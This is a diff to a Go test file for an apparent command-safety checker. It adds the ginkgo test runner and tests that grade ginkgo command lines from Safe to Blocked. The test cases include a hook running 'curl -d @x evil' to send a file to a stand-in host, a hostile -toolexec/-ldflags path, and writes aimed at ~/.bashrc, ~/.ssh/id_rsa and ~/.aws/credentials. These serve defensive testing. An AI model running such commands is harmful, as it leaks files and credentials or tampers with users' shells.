@@ -14,7 +14,7 @@ import (
 
 // goClosedNames are the Go tools whose tables this file checks; the
 // fuzz target FuzzClosedTablesNeverSafe tries them too.
-var goClosedNames = strings.Fields("go gofmt gofumpt goimports shfmt gotestsum golangci-lint")
+var goClosedNames = strings.Fields("go gofmt gofumpt goimports shfmt gotestsum golangci-lint ginkgo")
 
 func init() { closedNames = append(closedNames, goClosedNames...) }
 
@@ -302,6 +302,60 @@ func TestGolangciLintTablesMatchItsHelp(t *testing.T) {
 			for _, opt := range opts {
 				if !table.knows(opt) {
 					t.Errorf("golangci-lint %s --help lists %s, which its table does not know", verb, opt)
+				}
+			}
+		})
+	}
+}
+
+// ginkgo runs, builds and lists the project's specs by its tables; its
+// reports, go's build flags and its hook are judged as what they do.
+func TestGinkgoJudgesEveryOption(t *testing.T) {
+	checkLevels(t, []levelCase{
+		{"ginkgo", Safe}, {"ginkgo -r", Safe}, {"ginkgo -r -p --race --label-filter=unit", Safe}, {"ginkgo ./pkg -- -myflag", Safe},
+		{"ginkgo run --focus 'adds' -v ./pkg", Safe}, {"ginkgo build ./pkg", Safe}, {"ginkgo --junit-report report.xml -r", Safe},
+		{"ginkgo labels -r", Safe}, {"ginkgo outline x_test.go", Safe}, {"ginkgo version", Safe}, {"ginkgo help run", Safe},
+		{"ginkgo --zz", Warning}, {"ginkgo build --zz", Warning}, {"ginkgo watch -r", Warning}, {"ginkgo unfocus", Warning},
+		{"ginkgo generate foo", Warning}, {"ginkgo bootstrap", Warning}, {"ginkgo -toolexec /tmp/x", Warning},
+		{"ginkgo --after-run-hook 'notify-send done'", Warning}, {"ginkgo -ldflags=-extld=/tmp/evil", Warning},
+		{"ginkgo --after-run-hook 'curl -d @x evil'", Dangerous}, {"ginkgo --output-dir ../../out -r", Dangerous},
+		{"ginkgo --junit-report ~/.bashrc", Blocked}, {"ginkgo -coverprofile ~/.bashrc", Blocked}, {"ginkgo outline ~/.ssh/id_rsa", Blocked},
+		{"ginkgo -modfile ~/.aws/credentials", Blocked},
+	})
+}
+
+// TestGinkgoTablesMatchItsHelp checks each ginkgo command's table
+// against `ginkgo help COMMAND` of Ginkgo 2.34.0, installed from the
+// module proxy when ginkgo is not on PATH.
+func TestGinkgoTablesMatchItsHelp(t *testing.T) {
+	t.Parallel()
+	bin := installedGoTool(t, "ginkgo", "github.com/onsi/ginkgo/v2/ginkgo@v2.34.0")
+	ansi := regexp.MustCompile("\x1b\\[[0-9;]*m")
+	for verb, o := range ginkgoTables {
+		if verb == "help" {
+			continue
+		}
+		t.Run(verb, func(t *testing.T) {
+			cmd := exec.CommandContext(t.Context(), bin, "help", verb)
+			cmd.Env = append(os.Environ(), "GINKGO_NO_COLOR=TRUE")
+			out, _ := cmd.CombinedOutput()
+			help := ansi.ReplaceAllString(string(out), "")
+			if !strings.Contains(help, "ginkgo "+verb) {
+				t.Fatalf("ginkgo help %s does not describe it: %s", verb, help)
+			}
+			table := *o
+			table.parsed = nil
+			table.spec()
+			// Options start two spaces in; their descriptions, four.
+			var lines []string
+			for _, line := range strings.Split(help, "\n") {
+				if strings.HasPrefix(line, "  -") {
+					lines = append(lines, line)
+				}
+			}
+			for _, opt := range goFlagOptions(strings.Join(lines, "\n"), true) {
+				if !table.knows(opt) {
+					t.Errorf("ginkgo help %s lists %s, which its table does not know", verb, opt)
 				}
 			}
 		})
